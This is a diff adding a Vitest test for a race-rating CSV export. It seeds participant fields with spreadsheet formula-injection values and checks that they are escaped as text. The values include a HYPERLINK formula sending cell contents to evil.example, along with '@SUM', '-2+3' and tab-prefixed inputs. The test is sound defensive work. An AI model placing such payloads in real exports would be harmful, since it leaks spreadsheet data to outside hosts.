@@ -1,4 +1,6 @@
+import { eq } from 'drizzle-orm';
 import { describe, expect, it } from 'vitest';
+import { participants } from '../../src/db/schema/index.js';
 import { currentSeason, ratingPageSchema } from '@velo/contracts';
 import { buildActors, bearer, buildAccount, tokenFor } from '../helpers/actors.js';
 import { buildOrganizer } from '../helpers/factories.js';
@@ -184,6 +186,31 @@ describe('rating table', () => {
     expect(lines[0]).toBe('Место;Место (М/Ж);Фамилия;Имя;Пол;Год рождения;Город;Клуб;Гонок;Очки');
     expect(lines).toHaveLength(5);
     expect(lines[1]).toMatch(/^1;1;Белов;Юрий;М;1983;Москва;Клуб;2;\d+(,\d+)?$/);
+  });
+
+  it('writes a club, a city or a name a spreadsheet would run as a formula as text, and numbers as numbers', async () => {
+    await season();
+    const club = '=HYPERLINK("http://evil.example/?leak="&A1;"Открыть")';
+    await t()
+      .db.update(participants)
+      .set({ club, city: '+7 (000) 000-00-00' })
+      .where(eq(participants.lastName, 'Белов'));
+    await t()
+      .db.update(participants)
+      .set({ firstName: '@SUM(1+1)', city: '\tТверь', club: '-2+3' })
+      .where(eq(participants.lastName, 'Орлов'));
+    const response = await t().app.inject({
+      method: 'POST',
+      url: '/v1/Statistic/rating-csv',
+      payload: { gender: 'male' },
+    });
+    const lines = response.rawPayload.subarray(3).toString('utf8').trim().split('\r\n');
+    expect(lines[1]).toMatch(
+      /^1;1;Белов;Юрий;М;1983;'\+7 \(000\) 000-00-00;"'=HYPERLINK\(""http:\/\/evil\.example\/\?leak=""&A1;""Открыть""\)";2;\d+(,\d+)?$/,
+    );
+    expect(lines.find((line) => line.includes('Орлов'))).toMatch(
+      /^\d+;\d+;Орлов;'@SUM\(1\+1\);М;1980;'\tТверь;'-2\+3;\d+;\d+(,\d+)?$/,
+    );
   });
 
   it('gives the series with counted races under the best-races rule', async () => {
